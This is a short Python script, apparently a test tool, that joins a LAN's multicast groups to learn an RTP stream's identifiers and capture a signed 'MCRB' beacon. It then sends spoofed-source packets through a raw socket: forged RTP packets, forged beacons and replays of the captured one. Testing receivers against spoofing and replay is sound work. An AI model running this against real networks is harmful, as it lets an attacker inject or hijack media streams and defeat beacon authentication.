#!/usr/bin/env python3
"""Forges datagrams as any host of the LAN can: learns a channel's stream
(SSRC, sequence number, timestamp) and captures one real beacon by joining
their groups, then, for SECONDS, sends every 0.2 s from the spoofed source
address SRC (a raw socket): an RTP packet of that stream with its sequence
number ahead on GROUP:PORT, a beacon-shaped datagram with a random tag on
the beacon group, and the captured beacon again (a replay).

usage: forge.py IFACE SRC GROUP PORT BEACON_GROUP BEACON_PORT SECONDS
Prints what it sent: "rtp N beacons N replays N ssrc X".
"""
import os
import socket
import struct
import sys
import time

iface, src, group, port, bgroup, bport, seconds = sys.argv[1:8]
port, bport, seconds = int(port), int(bport), float(seconds)


def joined(g, p):
    r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    r.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    r.bind((g, p))
    mreq = socket.inet_aton(g) + socket.inet_aton(iface)
    r.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    r.settimeout(10)
    return r


rtp = joined(group, port)
beacons = joined(bgroup, bport)
first = rtp.recv(2048)
ssrc = first[8:12]
seq = struct.unpack(">H", first[2:4])[0]
ts = struct.unpack(">I", first[4:8])[0]
captured = None
deadline = time.monotonic() + 10
while captured is None and time.monotonic() < deadline:
    d, (a, _) = beacons.recvfrom(2048)
    if a == src and d[:4] == b"MCRB":
        captured = d
if captured is None:
    sys.exit("no beacon of %s heard" % src)

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(iface))


def send(dst, dport, payload):
    udp = struct.pack(">HHHH", dport, dport, 8 + len(payload), 0) + payload
    # Version 4, 20-byte header, TTL 1; the kernel fills the checksum and
    # the identification.
    ip = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 1, 17, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    raw.sendto(ip + udp, (dst, 0))


sent = {"rtp": 0, "beacons": 0, "replays": 0}
end = time.monotonic() + seconds
i = 0
while time.monotonic() < end:
    i += 1
    seq = (seq + 1000) & 0xFFFF
    ts = (ts + 90000) & 0xFFFFFFFF
    header = struct.pack(">BBHI", 0x80, 0x80 | 96, seq, ts) + ssrc
    send(group, port, header + os.urandom(100))
    sent["rtp"] += 1
    send(bgroup, bport, b"MCRB\x01" + captured[5:-32] + os.urandom(32))
    sent["beacons"] += 1
    send(bgroup, bport, captured)
    sent["replays"] += 1
    time.sleep(0.2)
print("rtp %(rtp)d beacons %(beacons)d replays %(replays)d" % sent, "ssrc", ssrc.hex())
